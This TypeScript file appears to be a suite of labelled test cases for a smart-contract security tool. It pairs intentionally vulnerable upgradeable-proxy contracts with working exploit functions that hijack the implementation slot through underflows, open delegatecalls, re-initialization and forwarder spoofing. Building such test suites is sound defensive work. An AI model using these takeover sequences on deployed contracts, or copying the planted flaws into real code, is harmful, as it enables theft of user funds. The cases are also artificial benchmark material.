/** The upgrade function is guarded well, and something else writes the pointer. */
import {
  concatHex,
  encodeAbiParameters,
  getContractAddress,
  type Hex,
  keccak256,
  pad,
  size,
  stringToHex,
  toHex,
} from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, codeOf, creationCodeOf, LOGIC_SLOT, NO_OWNER, system } from '../chain.ts'
import type { Settings } from '../compile.ts'

type Draft = Omit<Case, 'cause' | 'truth' | 'by'> & Partial<Pick<Case, 'by'>>

export const NEW_EVM: readonly Settings[] = ['optimized', 'unoptimized', 'via IR']

/** UUPS logic that a timelock behind a Safe owns. */
const timelocked =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock()))
/** UUPS logic whose owner is renounced. */
const renounced =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, NO_OWNER))
/** Logic without an upgrade function. */
const plain =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deploy(name), callData('setNumber(uint256)', [1])))
/** A call of one function whose last argument is the new logic. */
const call =
  (signature: string, ...args: readonly unknown[]) =>
  (attack: Attack, { address }: Built): Promise<void> =>
    attack.send(address, signature, [...args, attack.code])

const word = (value: Hex): Hex => pad(value, { size: 32 })
const seize = ({ code }: Attack): Hex => callData('seize(address)', [code])
const ARRAY_START = (slot: bigint): bigint => BigInt(keccak256(encodeAbiParameters([{ type: 'uint256' }], [slot])))
const WORD = 1n << 256n
const byteAt = (code: Hex, at: number): string => code.slice(2 + at * 2, 4 + at * 2)

const drafts: readonly Draft[] = [
  {
    name: 'an open function writes the implementation slot of a timelocked proxy',
    build: timelocked('DirectWriter'),
    exploit: call('setReserve(address)'),
  },
  {
    name: 'an open function writes the implementation slot of logic without an upgrade function',
    build: plain('PlainDirectWriter'),
    exploit: call('setReserve(address)'),
  },
  {
    name: 'the slot is the hash of a name that the caller gives',
    build: plain('HashedNameWriter'),
    exploit: call('setLabel(string,address)', 'eip1967.proxy.implementation'),
  },
  {
    name: 'the caller gives the slot',
    build: plain('AnySlotWriter'),
    exploit: ({ send, code }, { address }) => send(address, 'record(bytes32,bytes32)', [LOGIC_SLOT, word(code)]),
  },
  {
    name: 'the slot is a constant under a mask that the caller gives',
    build: timelocked('MaskedSlotWriter'),
    exploit: call('record(uint256,address)', BigInt(LOGIC_SLOT) ^ BigInt(`0x${'11'.repeat(32)}`)),
  },
  {
    name: 'the slot is the sum of two numbers in storage',
    build: renounced('StoredSlotWriter'),
    exploit: call('remember(uint256)'),
  },
  {
    name: 'the pointer of the proxy is an element of a mapping of the logic',
    build: async (chain) => system(await chain.deploy('MappingPointerProxy', await chain.deploy('NotesLogic'))),
    exploit: call('note(bytes32,uint256)', stringToHex('logic', { size: 32 })),
  },
  {
    name: 'the length of an array underflows and its elements cover all storage',
    build: timelocked('ArrayUnderflow'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'removeLast()')
      const lists = [2n, 1n, 3n, 102n].map((slot) => (BigInt(LOGIC_SLOT) - ARRAY_START(slot) + WORD) % WORD)
      for (const index of lists) await send(address, 'replace(uint256,uint256)', [index, code]).catch(() => undefined)
    },
  },
  {
    name: 'an array is written without a check of its bounds',
    build: plain('ArrayWithoutBounds'),
    exploit: call('replace(uint256,uint256)', (BigInt(LOGIC_SLOT) - ARRAY_START(1n) + WORD) % WORD),
  },
  {
    name: 'the caller chooses the namespace of a storage struct',
    build: timelocked('NamespaceWriter'),
    exploit: call('setHolder(uint256,address)', BigInt(LOGIC_SLOT) - 1n),
  },
  {
    name: 'one call stores a place and another fills it',
    build: renounced('TwoStepWriter'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'open(bytes32)', [LOGIC_SLOT])
      await send(address, 'fill(address)', [code])
    },
  },
  {
    name: 'the fallback function of the logic writes for calldata of 20 bytes',
    build: plain('FallbackWriter'),
    exploit: ({ sendRaw, code }, { address }) => sendRaw(address, code),
  },
  {
    name: 'the receive function makes the sender of 7 wei the logic',
    build: timelocked('ReceiveWriter'),
    exploit: async (attack, { address }) => {
      await attack.deployWithValue(7n, 'PayingLogic', address)
    },
  },
  {
    name: 'calldata of two bytes makes a registered address the logic',
    build: plain('ShortCalldataWriter'),
    exploit: async ({ send, sendRaw, code }, { address }) => {
      await send(address, 'setFavorite(address)', [code])
      await sendRaw(address, '0x0001')
    },
  },
  {
    name: 'a deposit with 13 bytes after its argument writes the pointer',
    build: timelocked('CalldataLengthWriter'),
    exploit: ({ sendRaw, code }, { address }) =>
      sendRaw(address, concatHex([callData('deposit(uint256)', [code]), toHex(0, { size: 13 })])),
  },
  {
    name: 'a donation of exactly 13 wei writes the pointer',
    build: renounced('ExactValueWriter'),
    exploit: ({ send, code }, { address }) => send(address, 'donate(address)', [code], { value: 13n }),
  },
  {
    name: 'a function of the proxy has the selector of burn',
    build: async (chain) => system(await chain.deploy('SelectorCollisionProxy', await chain.deploy('BurningLogic'))),
    exploit: ({ sendRaw, code }, { address }) =>
      sendRaw(address, concatHex([callData('burn(uint256)', [0n]), word(code)])),
  },
  {
    name: 'the logic delegates to any address that the caller names',
    build: timelocked('OpenDelegate'),
    exploit: (attack, { address }) => attack.send(address, 'run(address,bytes)', [attack.code, seize(attack)]),
  },
  {
    name: 'the logic delegates to a stored helper that anyone may set',
    build: plain('StoredDelegate'),
    exploit: async (attack, { address }) => {
      await attack.send(address, 'setHelper(address)', [attack.code])
      await attack.send(address, 'help(bytes)', [seize(attack)])
    },
  },
  {
    name: 'every caller may install a plugin that the logic delegates to',
    build: timelocked('PluginDelegate'),
    exploit: async (attack, { address }) => {
      await attack.send(address, 'install(address)', [attack.code])
      await attack.send(address, 'usePlugin(bytes)', [seize(attack)])
    },
  },
  {
    name: 'a fixed extension of the logic writes the pointer',
    build: async (chain) => {
      const logic = await chain.deploy('ExtendedLogic', await chain.deploy('WritingExtension'))
      return system(await chain.proxy(logic, callData('initialize(address)', [NO_OWNER])))
    },
    exploit: call('tidy(address)'),
  },
  {
    name: 'the extension of a fixed extension writes the pointer',
    build: async (chain) => {
      const extension = await chain.deploy('NextExtension', await chain.deploy('WritingExtension'))
      const logic = await chain.deploy('ExtendedLogic', extension)
      return system(await chain.proxy(logic, callData('initialize(address)', [await chain.timelock()])))
    },
    exploit: call('tidy(address)'),
  },
  {
    name: 'a fixed library writes the place that the caller gives',
    build: async (chain) => {
      const logic = await chain.deploy('StorageLibraryUser', await chain.deploy('Taken'))
      return system(await chain.proxy(logic, callData('setNumber(uint256)', [1])))
    },
    exploit: ({ send, code }, { address }) => send(address, 'keep(bytes32,bytes32)', [LOGIC_SLOT, word(code)]),
  },
  {
    name: 'the fixed extension has no code yet, and one key can deploy it',
    by: 'one key',
    build: async (chain) => {
      const extension = getContractAddress({ from: chain.hidden().address, nonce: 0n })
      const logic = await chain.deploy('ExtendedLogic', extension)
      return system(await chain.proxy(logic, callData('initialize(address)', [NO_OWNER])))
    },
    exploit: async ({ deploy, send, code }, { address }) => {
      await deploy('WritingExtension')
      await send(address, 'tidy(address)', [code])
    },
  },
  {
    name: 'the fixed extension has no code yet, and anyone can deploy it through a factory',
    settings: NEW_EVM,
    build: async (chain) => {
      const factory = await chain.deploy('OpenFactory')
      const at = await chain.evm.read({ ...chain.own('OpenFactory'), address: factory }, 'addressOf', [
        toHex(1, { size: 32 }),
      ])
      const logic = await chain.deploy('ExtendedLogic', `0x${at.slice(-40)}`)
      return system(await chain.proxy(logic, callData('initialize(address)', [await chain.timelock()])), { factory })
    },
    exploit: async ({ send, chain, code }, { address, parts }) => {
      const creation = creationCodeOf(chain.own('WritingExtension'))
      await send(parts.factory as Hex, 'deploy(bytes32,bytes)', [toHex(1, { size: 32 }), creation])
      await send(address, 'tidy(address)', [code])
    },
  },
  {
    name: 'a proxy was never initialized and looks renounced',
    build: async (chain) => system(await chain.proxy(await chain.deploy('OwnedLogic'))),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'initialize(address)', [account.address])
      await send(address, 'upgradeTo(address)', [code])
    },
  },
  {
    name: 'any caller may initialize a later version again',
    build: timelocked('ReinitializableLogic'),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'initializeVersion(uint8,address)', [9, account.address])
      await send(address, 'upgradeTo(address)', [code])
    },
  },
  {
    name: 'any caller may initialize a later version again (OpenZeppelin 5)',
    settings: NEW_EVM,
    build: timelocked('Reinitializable5'),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'migrate(uint64,address)', [9, account.address])
      await send(address, 'upgradeToAndCall(address,bytes)', [code, '0x'])
    },
  },
  {
    name: 'the closing of a round forgets the initialization',
    build: timelocked('ResettingLogic'),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'closeRound()')
      await send(address, 'initialize(address)', [account.address])
      await send(address, 'upgradeToAndCall(address,bytes)', [code, '0x'])
    },
  },
  {
    name: 'a function clears a namespace that the caller names, and with it the initialization',
    settings: NEW_EVM,
    build: timelocked('InitializerEraser'),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'clear(string)', ['openzeppelin.storage.Initializable'])
      await send(address, 'initialize(address)', [account.address])
      await send(address, 'upgradeToAndCall(address,bytes)', [code, '0x'])
    },
  },
  {
    name: 'the contract may upgrade itself and calls what anyone asks for',
    build: timelocked('SelfCommanded'),
    exploit: ({ send, code }, { address }) =>
      send(address, 'forward(address,bytes)', [address, callData('upgradeTo(address)', [code])]),
  },
  {
    name: 'multicall keeps the forwarder as sender and drops the true sender',
    build: async (chain) => {
      const forwarder = await chain.deploy('TrueForwarder')
      const owner = await chain.timelock()
      const logic = await chain.deploy('ForwardedMulticall', forwarder)
      return system(await chain.proxy(logic, callData('initialize(address)', [owner])), { forwarder, owner })
    },
    exploit: async ({ send, code }, { address, parts }) => {
      const forged = concatHex([callData('upgradeTo(address)', [code]), parts.owner as Hex])
      const calls = callData('multicall(bytes[])', [[forged]])
      await send(parts.forwarder as Hex, 'forward(address,bytes)', [address, calls])
    },
  },
  {
    name: 'the trusted forwarder appends any sender',
    build: async (chain) => {
      const forwarder = await chain.deploy('CarelessForwarder')
      const owner = await chain.timelock()
      const logic = await chain.deploy('ForwardedMulticall', forwarder)
      return system(await chain.proxy(logic, callData('initialize(address)', [owner])), { forwarder, owner })
    },
    exploit: ({ send, code }, { address, parts }) =>
      send(parts.forwarder as Hex, 'forward(address,bytes,address)', [
        address,
        callData('upgradeTo(address)', [code]),
        parts.owner,
      ]),
  },
  {
    name: 'a flag of multicall replaces the check of the owner',
    build: timelocked('MulticallFlag'),
    exploit: ({ send, code }, { address }) =>
      send(address, 'multicall(bytes[])', [[callData('upgradeTo(address)', [code])]]),
  },
  {
    name: 'a borrower is the owner while its callback runs',
    build: timelocked('FlashOwner'),
    exploit: async ({ deploy, send, code }, { address }) =>
      send(await deploy('Borrower', code), 'start(address)', [address]),
  },
  {
    name: 'a setter of flags writes the whole word that also contains the owner',
    build: timelocked('PackedFlagWriter'),
    exploit: async ({ send, code, account }, { address }) => {
      // The owner starts at the first or the third byte of its word, as the compiler packs it.
      for (const shift of [16n, 0n])
        await send(address, 'setFlags(uint256)', [(BigInt(account.address) << shift) + (shift > 0n ? 1n : 0n)])
          .then(() => send(address, 'upgradeTo(address)', [code]))
          .catch(() => undefined)
    },
  },
  {
    name: 'an open function replaces the owner',
    build: renounced('OwnerWriter'),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'nominate(address)', [account.address])
      await send(address, 'upgradeTo(address)', [code])
    },
  },
  {
    name: 'the caller answers which code to run',
    build: plain('CallbackTarget'),
    exploit: async ({ deploy, send, code }, { address }) =>
      send(await deploy('CallbackAnswer', code), 'start(address)', [address]),
  },
  {
    name: 'the written value is the answer of a contract that the caller names',
    build: timelocked('AnswerWriter'),
    exploit: call('refresh(address)'),
  },
  {
    name: 'the target of a delegatecall is read from the code of a contract that the caller names',
    build: plain('CodeTable'),
    exploit: async (attack, { address }) => {
      const table = await attack.deployRuntime(concatHex(['0x00', attack.code]))
      await attack.send(address, 'useTable(address,bytes)', [table, seize(attack)])
    },
  },
  {
    name: 'slots and values are read from the code of a contract that the caller names',
    build: timelocked('SlotLoader'),
    exploit: async ({ deployRuntime, send, code }, { address }) =>
      send(address, 'load(address)', [await deployRuntime(concatHex(['0x00', LOGIC_SLOT, word(code)]))]),
  },
  {
    name: 'a packed list of slots and values is written',
    build: plain('BatchWriter'),
    exploit: ({ send, code }, { address }) => send(address, 'apply_(bytes)', [concatHex([LOGIC_SLOT, word(code)])]),
  },
  {
    name: 'the slot follows from a chain of 77 hashes',
    build: timelocked('HashChainWriter'),
    exploit: call('settle(uint256,address)', 77n),
  },
  {
    name: 'a write after many independent branches',
    build: renounced('ManyBranches'),
    exploit: call('settle(uint256,address)', winningBits()),
  },
  {
    name: 'the target of a delegatecall starts at the eighth byte of calldata',
    build: plain('UnalignedTarget'),
    exploit: (attack, { address }) =>
      attack.sendRaw(address, concatHex(['0x00000000000000', attack.code, seize(attack)])),
  },
  {
    name: 'the slot is a modular product',
    build: renounced('MulmodSlotWriter'),
    exploit: call('settle(uint256,uint256,address)', BigInt(LOGIC_SLOT), 1n),
  },
  {
    name: 'the caller gives the number of an internal function',
    build: async (chain) => {
      const logic = await chain.deploy('FunctionPointer')
      return system(await chain.proxy(logic, callData('setNumber(uint256)', [1])), { logic })
    },
    exploit: async (attack, { address, parts }) => {
      // With the old code generator the number is a position of the code, with the new one an index.
      const code = await codeOf(attack.chain, parts.logic as Hex)
      const positions = Array.from({ length: size(code) }, (_, at) => at).filter(
        (at) => at < 20 || byteAt(code, at) === '5b',
      )
      // Wrong numbers may break the contract, so that they are tried on the logic itself, which has storage of its own.
      const logic = parts.logic as Hex
      for (const position of positions) {
        const args = [BigInt(position), attack.code]
        await attack.send(logic, 'run(uint256,address)', args).catch(() => undefined)
        if ((await attack.chain.storage(logic, LOGIC_SLOT)) !== word(attack.code)) continue
        return await attack.send(address, 'run(uint256,address)', args)
      }
    },
  },
  {
    name: 'the check of the owner runs and its result is ignored',
    build: timelocked('IgnoredCheck'),
    exploit: call('upgradeTo(address)'),
  },
  {
    name: 'the storage layout of the logic starts at the implementation slot',
    settings: NEW_EVM,
    build: plain('LayoutAtPointer'),
    exploit: call('setTreasury(address)'),
  },
  {
    name: 'the target of a delegatecall is kept in transient storage',
    settings: NEW_EVM,
    build: timelocked('TransientTarget'),
    exploit: async ({ deploy, code }, { address }) => {
      await deploy('TransientUser', address, code)
    },
  },
  {
    name: 'the target of a delegatecall is a CREATE2 address of any salt',
    settings: NEW_EVM,
    build: async (chain) => {
      const factory = await chain.deploy('OpenFactory')
      const logic = await chain.deploy('SaltedTarget', factory, keccak256(chain.own('Relay').bytecode))
      return system(await chain.proxy(logic, callData('initialize(address)', [NO_OWNER])), { factory })
    },
    exploit: async (attack, { address, parts }) => {
      const salt = toHex(5, { size: 32 })
      const creation = creationCodeOf(attack.chain.own('Taken'))
      await attack.send(parts.factory as Hex, 'deploy(bytes32,bytes)', [salt, creation])
      await attack.send(address, 'extend(bytes32,bytes)', [salt, seize(attack)])
    },
  },
]

export const secondWriters: readonly Case[] = drafts.map((draft) => ({
  by: 'anyone',
  ...draft,
  cause: 'second writer',
  truth: WEAK,
}))

/** The first number whose score passes the condition of `ManyBranches`. */
function winningBits(): bigint {
  const powers = Array.from({ length: 20 }, (_, i) => 3n ** BigInt(i))
  for (let bits = 0n; bits < 1n << 20n; bits += 1n) {
    let score = 0n
    for (let i = 0n; i < 20n; i += 1n)
      if ((bits & (1n << i)) === 0n) score ^= i
      else score += powers[Number(i)] as bigint
    if (score % 1_000_003n === 456_871n) return bits
  }
  throw new Error('no number passes')
}
